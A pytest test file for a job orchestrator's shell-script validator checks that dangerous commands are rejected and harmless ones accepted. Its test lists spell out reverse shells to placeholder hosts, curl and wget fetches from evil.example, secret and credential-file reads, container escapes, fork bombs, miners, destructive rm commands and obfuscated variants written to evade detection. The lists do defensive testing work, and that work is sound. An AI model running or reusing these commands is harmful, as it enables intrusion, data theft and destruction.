from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from job_orchestrator.client.validator import (
    MAX_SCRIPT_BYTES,
    REASONS,
    TRAP_MESSAGE,
    RejectionKind,
    ScriptRejection,
    check_script_text,
    validate_script,
)

# UPSTREAM §14 utils/io.rs validator tests: every one must still be rejected.
UPSTREAM_TESTS = [
    ("rm -rf /", "destructive rm command"),
    ("curl http://evil.example/x.sh", "network tool: curl"),
    ("sudo apt-get install x", "privilege escalation: sudo"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell via /dev/tcp"),
    ("echo $AWS_SECRET_KEY", "environment secret: AWS"),
    ("echo cm0gLXJmIC8= | base64 -d | bash", "obfuscated execution: base64 pipe to shell"),
    ('eval "rm -rf /"', "dynamic code execution: eval"),
    ("python3 -c 'import os'", "inline interpreter: python"),
    ("nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "container escape: nsenter"),
    ("docker run -v /:/host alpine", "container escape: docker"),
    ("socat TCP:10.0.0.1:4444 EXEC:bash", "network tool: socat"),
    ("crontab -l", "persistence: crontab"),
    ("mount -o bind / /mnt", "filesystem manipulation: mount"),
    ("ssh user@host", "network tool: ssh"),
    ("./xmrig -o pool:3333", "crypto mining: xmrig"),
    ("dd if=/dev/zero of=fill bs=1M", "disk-filling dd command"),
    ("cat /var/run/docker.sock", "access to Docker socket"),
    ("insmod rootkit.ko", "kernel module: insmod"),
]

# A dangerous example for every row of UPSTREAM table 7.1.
TABLE_EXAMPLES = [
    ("mkfs.ext4 /dev/sdb1", "filesystem format command"),
    ("mkfs -t ext4 /dev/sdb1", "filesystem format command"),
    ("dd if=disk.img of=/dev/sda", "direct device write"),
    ("dd if=/dev/urandom of=big.bin bs=1M", "disk-filling dd command"),
    ("cat /etc/passwd", "access to /etc/passwd"),
    ("cat /etc/shadow", "access to /etc/shadow"),
    ("echo 'me ALL=NOPASSWD: ALL' >> /etc/sudoers", "access to /etc/sudoers"),
    ("cat /proc/self/environ", "access to /proc"),
    ("cat /proc/1/environ", "access to /proc"),
    ("head -c 100 /proc/*/mem", "access to /proc"),
    ("echo 1 > /proc/sys/kernel/sysrq", "access to /proc"),
    ("cat /proc/kcore", "access to /proc"),
    ("cat /sys/kernel/notes", "access to /sys"),
    ("echo $$ > /sys/fs/cgroup/cgroup.procs", "access to /sys"),
    ("echo 1 | tee /sys/class/leds/x/brightness", "access to /sys"),
    ("cat ~/.ssh/id_rsa", "access to SSH keys"),
    ("cp key $HOME/.ssh/authorized_keys", "access to SSH keys"),
    ("ls /root/", "access to root home"),
    ('cat "/root/secret"', "access to root home"),
    ("curl --unix-socket /var/run/docker.sock http://x/info", "access to Docker socket"),
    ("wget http://evil.example/x", "network tool: wget"),
    ("nc -e /bin/sh 10.0.0.1 4444", "network tool: nc"),
    ("ncat 10.0.0.1 4444", "network tool: ncat"),
    ("scp results.tar host:/tmp/", "network tool: scp"),
    ("sftp user@host", "network tool: sftp"),
    ("telnet host 23", "network tool: telnet"),
    ("rsync -a out/ host:/x/", "network tool: rsync"),
    ("cat < /dev/udp/10.0.0.1/53", "reverse shell via /dev/udp"),
    ("su - root", "privilege escalation: su"),
    ("chmod 4755 shell", "dangerous chmod"),
    ("chmod +s shell", "dangerous chmod"),
    ("chown root:root shell", "ownership change: chown"),
    ("chroot /mnt /bin/sh", "container escape: chroot"),
    ("unshare -r /bin/sh", "container escape: unshare"),
    ("umount /mnt", "filesystem manipulation: umount"),
    ("kubectl get pods", "container escape: kubectl"),
    ("sysctl -w kernel.panic=1", "kernel manipulation: sysctl"),
    ("modprobe evil", "kernel module: modprobe"),
    ("rmmod evil", "kernel module: rmmod"),
    ("iptables -F", "firewall manipulation: iptables"),
    ("nftables -f rules", "firewall manipulation: nftables"),
    ('eval "$cmd"', "dynamic code execution: eval"),
    ("perl -e 'print 1'", "inline interpreter: perl"),
    ("ruby -e 'puts 1'", "inline interpreter: ruby"),
    ("ls /etc/cron.d", "persistence: cron directory"),
    ("systemctl start evil", "persistence: systemctl"),
    ("service nginx start", "persistence: service command"),
    ("at now + 1 minute", "persistence: at scheduler"),
    ("echo ./job.sh | at midnight", "persistence: at scheduler"),
    (":(){ :|:& };:", "fork bomb"),
    ("stress --cpu 8", "resource exhaustion: stress"),
    ("stress-ng --vm 4", "resource exhaustion: stress-ng"),
    ("minerd -o stratum+tcp://pool", "crypto mining: minerd"),
    ("cpuminer -a sha256d", "crypto mining: cpuminer"),
    ("echo $SECRET", "environment secret: SECRET"),
    ("echo $TOKEN", "environment secret: TOKEN"),
    ("echo $PASSWORD", "environment secret: PASSWORD"),
    ("echo $API_KEY", "environment secret: API_KEY"),
]

# Upstream false negatives (§7.3) closed here, and other ways of hiding a command.
CLOSED_GAPS = [
    ("rm -rf ..", "destructive rm command"),
    ("rm -rf $HOME", "destructive rm command"),
    ("rm -rf ~", "destructive rm command"),
    ("rm -rf /*", "destructive rm command"),
    ("rm -rf /etc", "destructive rm command"),
    ("rm -r -f -- /usr", "destructive rm command"),
    ('rm -rf "$OUT"/*', "destructive rm command"),
    ("rm -rf data/../../x", "destructive rm command"),
    ("echo ${AWS_KEY}", "environment secret: AWS"),
    ("echo ${TOKEN}", "environment secret: TOKEN"),
    ("echo ${SECRET:-none}", "environment secret: SECRET"),
    ("python3.11 -c 'print(1)'", "inline interpreter: python"),
    ("python -Bc 'print(1)'", "inline interpreter: python"),
    ("python3 -u -c 'print(1)'", "inline interpreter: python"),
    ("perl -E 'say 1'", "inline interpreter: perl"),
    ("chmod u+s shell", "dangerous chmod"),
    ("chmod g+s dir", "dangerous chmod"),
    ("chmod 2755 dir", "dangerous chmod"),
    ("chmod 6755 shell", "dangerous chmod"),
    (":() { :|:& };:", "fork bomb"),
    ("bomb() { bomb | bomb & }; bomb", "fork bomb"),
    ("nft flush ruleset", "firewall manipulation: nftables"),
    ("ip6tables -F", "firewall manipulation: iptables"),
    ("  at now", "persistence: at scheduler"),
    ("if true; then\n    at now < job.txt\nfi", "persistence: at scheduler"),
    ("c\\url http://x", "network tool: curl"),
    ("w''get http://x", "network tool: wget"),
    ('"curl" http://x', "network tool: curl"),
    ("/usr/bin/wget http://x", "network tool: wget"),
    ("busybox nc 10.0.0.1 4444", "network tool: nc"),
    ("nohup timeout 10s nice -n 5 curl http://x &", "network tool: curl"),
    ("env -i FOO=1 wget http://x", "network tool: wget"),
    ("find . -name '*.pdb' | xargs -n 1 scp -t", "network tool: scp"),
    ("x=$(curl http://x)", "network tool: curl"),
    ("echo `wget -qO- http://x`", "network tool: wget"),
    ("{ ssh host; }", "network tool: ssh"),
    ("true && ssh host || ssh other", "network tool: ssh"),
    ("bash -c 'curl http://x'", "network tool: curl"),
    ("sh -c \"bash -c 'curl http://x'\"", "network tool: curl"),
    ("sh -c 'echo a; wget http://x'", "network tool: wget"),
    ("find . -exec sh -c 'rm -rf /' \\;", "destructive rm command"),
    ('bash -c "$(echo Y3VybAo= | base64 -d)"', "obfuscated execution: base64 pipe to shell"),
    ("sh <(base64 -d payload.b64)", "obfuscated execution: base64 pipe to shell"),
    ("base64 -d p | /bin/sh -s", "obfuscated execution: base64 pipe to shell"),
    ("sudo -u nobody ls", "privilege escalation: sudo"),
    ("dd if=/dev/zero of=/dev/sdb", "direct device write"),
    ("xmrig_cfg=1; cp xmrig /tmp/", "crypto mining: xmrig"),
]

# Comment and heredoc handling must not be a way to hide a command.
PARSER_EDGES = [
    'echo "$(curl http://x)"',
    'echo "`curl http://x`"',
    'out="$(echo "$(curl http://x)")"',
    "echo $#; curl http://x",
    "echo ${#arr[@]}; curl http://x",
    'echo "#"; curl http://x',
    "echo '#'; curl http://x",
    "echo a#b; curl http://x",
    "echo \\ #; curl http://x",
    "cat <<EOF\nit's\nEOF\necho ' #'; curl http://x",
    "x=$((1<<n))\ncurl http://x\nn",
    "cat <<EOF\ndata\nEOF\ncurl http://x",
    "cat <<-EOF\n\tdata\n\tEOF\ncurl http://x",
    "bash <<EOF\ncurl http://x\nEOF",
    "cat <<'EOF' | sh\ncurl http://x\nEOF",
    "echo 'unterminated\ncurl http://x",
    "cat <<<'here string'\ncurl http://x",
    "cat <<''\nat 1\n\ncurl http://x",  # empty delimiter: ends at the first empty line
    'cat <<E"O"F\ndata\nEOF\ncurl http://x',  # the delimiter is the whole word, EOF
    "cat <<EOF; curl http://x\ndata\nEOF",
    "x=$((\n1<<n))\ncurl http://x\nn",  # arithmetic over two lines
    "echo a\r#; curl http://x",  # bash does not treat CR as a blank
]

# UPSTREAM §7.2 false positives and other harmless lines that must pass.
HARMLESS = [
    # Words inside double quotes are text, even next to a substitution.
    'echo "job started on $(hostname) at $(date -u +%FT%TZ)" > output.txt',
    'echo "done; at noon" >> log.txt',
    'echo "$(date) service restarted" > status.txt',
    "rm -f results/*.tmp",
    "rm -rf ./tmp",
    "rm -rf tmp/ work/",
    "rm -rf *",
    "rm -f x 2>/dev/null",
    "rm -f x > /dev/null",
    "rm -rf /tmp/job_$$",
    'rm -rf "${OUT:?}"/*',
    'rm -rf "$OUT/scratch"',
    "rm ../shared.lock",  # neither recursive nor forced
    "echo perform /x",
    "dd if=in of=/dev/null",
    "dd if=/dev/zero of=/dev/null bs=1M count=10",
    "dd if=in.raw of=out.raw bs=4k",
    "add x",
    "odd x",
    "ncdump data.nc",
    "ncdump -h output.nc > header.txt",
    "chmod 755 run.sh",
    "chmod 644 f",
    "chmod 600 x",
    "chmod 0755 x",
    "chmod 1777 shared",
    "chmod -R u+rwX,go-w out",
    "chmod +x analyse.sh",
    "cat /proc/cpuinfo",
    "grep MemTotal /proc/meminfo",
    "cat /proc/loadavg",
    "grep VmPeak /proc/self/status /proc/$$/status",
    "cat /sys/fs/cgroup/memory.max",
    "cat /sys/devices/system/cpu/online",
    "ls ./root/x",
    "ls /data/root/",
    "cp $DIR/root/x .",
    "cp at.txt out/",
    "cat at.txt",
    "cat > md.in <<EOF\ntemperature\nat 300 K\nsu mmary\nservice life\nEOF",
    "python3 md.py <<'END'\nat 300 K\nmount the sample\nEND",
    "echo desu ",
    "echo menu_su\n",
    'echo "service started"',
    "echo 'do not curl here'",
    'echo "Elapsed time: 3s"',
    "# eval is not used",
    "analyse --mount /data",
    "mkdir mount-point",
    "python3 stress-strain.py",
    "./stress-strain",
    "base64 x | shasum",
    "base64 input.bin > input.b64",
    "echo $TOKENIZER",
    "echo $SECRET_DIR ${TOKEN_FILE}",
    "# do not use ssh here",
    "echo hi  # then curl it, sudo, rm -rf / in a comment",
    "command -v python3 >/dev/null || exit 1",
    "if command -v curl >/dev/null; then echo has-curl; fi",
    "perl -pi -e 's/foo/bar/' input.txt",  # upstream only matched `perl -e` as first option
    "python3 analyse.py -c config.yaml",
    "python3 -m pytest -c pytest.ini",
    "ssh-keygen -lf key.pub",
    "echo $(( 1 << 4 ))",
    "tar xzf inputs.tar.gz -C /tmp/work",
    'echo "Job started at $(date)"',
    "for f in *.pdb; do gdock score --receptor $f; done",
    "echo $# args; echo ${#name}",
]

GDOCK = (
    "#!/bin/bash\n"
    "trap 'echo $? > .orchestrator.exit' EXIT\n"
    "gdock score --receptor 2oob_A.pdb --ligand 2oob_B.pdb &>gdock.log\n"
)
UPSTREAM_EXAMPLES = [
    GDOCK,
    "#!/bin/bash\ntrap 'echo \"$?\" > .orchestrator.exit' EXIT\nsleep 30\necho done > output.txt\n",
    "#!/bin/bash\n"
    "trap 'echo $? > .orchestrator.exit' EXIT\n"
    "for i in $(seq 1 10); do\n"
    '    echo "step $i" >> progress.log\n'
    "    sleep 1\n"
    "done\n",
]


def _reason(script: str) -> str | None:
    rejection = check_script_text(script)
    if rejection is None:
        return None
    assert rejection.kind is RejectionKind.UNSAFE
    return rejection.reason


def test_reasons_are_upstreams_62() -> None:
    assert len(REASONS) == len(set(REASONS)) == 62


def test_every_reason_has_a_dangerous_example() -> None:
    covered = {reason for _, reason in UPSTREAM_TESTS + TABLE_EXAMPLES + CLOSED_GAPS}
    assert covered == set(REASONS)


@pytest.mark.parametrize(("script", "reason"), UPSTREAM_TESTS + TABLE_EXAMPLES + CLOSED_GAPS)
def test_threat_is_rejected_with_its_category(script: str, reason: str) -> None:
    assert _reason(script) == reason
    # Embedded in an otherwise fine script, after a comment, still caught.
    assert _reason(f"#!/bin/bash\n# step 2\necho start\n{script}\necho end\n") == reason


@pytest.mark.parametrize("script", PARSER_EDGES)
def test_comments_and_heredocs_do_not_hide_commands(script: str) -> None:
    assert _reason(script) == "network tool: curl"


@pytest.mark.parametrize("script", HARMLESS)
def test_harmless_script_is_accepted(script: str) -> None:
    assert check_script_text(script) is None


@pytest.mark.parametrize("script", UPSTREAM_EXAMPLES)
def test_upstream_example_scripts_pass(script: str) -> None:
    assert check_script_text(script) is None
    assert check_script_text(script, require_exit_trap=True) is None


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("sudo curl http://x", "network tool: curl"),  # curl is earlier in upstream's order
        ("curl http://x; rm -rf /", "destructive rm command"),
        ("echo $TOKEN > /etc/passwd", "access to /etc/passwd"),
    ],
)
def test_earliest_reason_in_upstream_order_wins(script: str, reason: str) -> None:
    assert _reason(script) == reason


def test_heredoc_data_is_still_searched_for_secrets_and_paths() -> None:
    assert _reason("cat > cfg <<EOF\nkey=$AWS_SECRET_KEY\nEOF") == "environment secret: AWS"
    assert _reason("cat > cfg <<EOF\nsrc=/dev/tcp/h/1\nEOF") == "reverse shell via /dev/tcp"


def test_byte_order_mark_is_ignored() -> None:
    assert check_script_text("\ufeffcurl http://x") == ScriptRejection(
        RejectionKind.UNSAFE, "network tool: curl"
    )
    assert check_script_text("\ufeff#!/bin/bash\necho ok\n") is None


def test_exit_trap_is_only_required_on_request() -> None:
    script = "#!/bin/bash\necho hello > out.txt\n"
    assert check_script_text(script) is None
    assert check_script_text(script, require_exit_trap=True) == ScriptRejection(
        RejectionKind.MISSING_REQUIREMENT, TRAP_MESSAGE
    )
    # Upstream semantics: the three substrings anywhere, even in a comment, are enough.
    commented = script + "# trap .orchestrator.exit EXIT\n"
    assert check_script_text(commented, require_exit_trap=True) is None
    # A dangerous pattern is reported before the missing trap.
    unsafe = check_script_text("curl http://x", require_exit_trap=True)
    assert unsafe is not None
    assert unsafe.kind is RejectionKind.UNSAFE


def test_messages() -> None:
    assert ScriptRejection(RejectionKind.UNSAFE, "network tool: curl").message() == (
        "run.sh rejected: network tool: curl"
    )
    assert ScriptRejection(RejectionKind.MISSING, "run.sh not found").message() == (
        "run.sh not found"
    )
    trap = ScriptRejection(RejectionKind.MISSING_REQUIREMENT, TRAP_MESSAGE).message()
    assert trap == f"run.sh rejected: {TRAP_MESSAGE}"
    assert TRAP_MESSAGE == (
        "Missing required trap for exit code capture. Add: trap 'echo $? > .orchestrator.exit' EXIT"
    )


def test_validate_script_accepts_clean_file(tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_text(GDOCK)
    assert validate_script(script) is None
    assert validate_script(script, require_exit_trap=True) is None


def test_validate_script_reports_dangerous_pattern(tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_text("#!/bin/bash\ncurl http://x\n")
    rejection = validate_script(script)
    assert rejection == ScriptRejection(RejectionKind.UNSAFE, "network tool: curl")
    assert rejection.message() == "run.sh rejected: network tool: curl"


def test_validate_script_requires_trap_on_request(tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_text("#!/bin/bash\necho hi\n")
    assert validate_script(script) is None
    rejection = validate_script(script, require_exit_trap=True)
    assert rejection is not None
    assert rejection.kind is RejectionKind.MISSING_REQUIREMENT


def test_validate_script_rejects_non_utf8(tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_bytes(b"#!/bin/bash\necho \xff\xfe\n")
    assert validate_script(script) == ScriptRejection(
        RejectionKind.UNSAFE, "script is not valid UTF-8"
    )


def test_validate_script_accepts_utf8_bom(tmp_path: Path) -> None:
    script = tmp_path / "run.sh"
    script.write_bytes(b"\xef\xbb\xbf#!/bin/bash\necho 'r\xc3\xa9sum\xc3\xa9'\n")
    assert validate_script(script) is None


@pytest.mark.parametrize(
    ("size", "expected"),
    [
        (MAX_SCRIPT_BYTES, None),
        (MAX_SCRIPT_BYTES + 1, ScriptRejection(RejectionKind.UNSAFE, "script too large")),
    ],
)
def test_size_cap_is_exactly_20_mib(
    tmp_path: Path, size: int, expected: ScriptRejection | None
) -> None:
    assert MAX_SCRIPT_BYTES == 20 * 1024 * 1024
    header = b"#!/bin/bash\necho big\n"
    line = b"# " + b"x" * 1021 + b"\n"  # 1 KiB comment lines keep the scan cheap
    body = line * ((size - len(header)) // len(line))
    script = tmp_path / "run.sh"
    script.write_bytes(header + body + b"#" * (size - len(header) - len(body)))
    assert script.stat().st_size == size
    assert validate_script(script) == expected


def test_missing_file(tmp_path: Path) -> None:
    rejection = validate_script(tmp_path / "run.sh")
    assert rejection == ScriptRejection(RejectionKind.MISSING, "run.sh not found")
    assert rejection.message() == "run.sh not found"


def test_directory_is_missing(tmp_path: Path) -> None:
    (tmp_path / "run.sh").mkdir()
    rejection = validate_script(tmp_path / "run.sh")
    assert rejection is not None
    assert rejection.kind is RejectionKind.MISSING


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX FIFOs")
def test_fifo_is_rejected_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "run.sh")
    rejection = validate_script(tmp_path / "run.sh")
    assert rejection is not None
    assert rejection.kind is RejectionKind.MISSING


@pytest.mark.parametrize(
    "unit",
    [
        *("f(){ ", "a#", "base64 ", "sh -c ", "tee -tee ", "<<a ", "''", "/proc/", "x|x ", "\n"),
        *('"$(', '"`', '"$(x) ', '"a'),
    ],
)
def test_pathological_input_is_scanned(unit: str) -> None:
    # Quadratic patterns took minutes on 100 kB of these; the suite's per-test timeout
    # catches a regression to them without a timing assertion here.
    script = unit * (300_000 // len(unit))
    # None of these units is a threat, so the whole script must pass.
    assert check_script_text(script) is None


SAFE_COMMANDS = [
    "echo hello",
    "echo 'done: 100%'",
    "cat input.txt",
    "sort data.txt",
    "uniq -c",
    "python3 analyse.py --in data.csv",
    "mkdir -p out",
    "cp a b",
    "mv out/a.txt results/",
    "rm -f results/*.tmp",
    "rm -rf ./tmp",
    "chmod 755 run.sh",
    "ncdump data.nc",
    "cat /proc/cpuinfo",
    'echo "service started"',
    "gdock score --receptor 2oob_A.pdb --ligand 2oob_B.pdb &>gdock.log",
    "tar czf out.tgz out",
    "grep -c ATOM model.pdb",
    "awk '{print $1}' table.txt",
    "sleep 1",
    "wc -l < data.txt",
    "dd if=in of=/dev/null",
    "base64 x | shasum",
    "export OMP_NUM_THREADS=4",
]


@given(
    st.lists(
        st.tuples(st.sampled_from(SAFE_COMMANDS), st.sampled_from(["\n", "; ", " && ", " | "])),
        min_size=1,
        max_size=12,
    )
)
def test_scripts_of_safe_commands_are_accepted(parts: list[tuple[str, str]]) -> None:
    script = "#!/bin/bash\n" + "".join(command + separator for command, separator in parts)
    assert check_script_text(script) is None
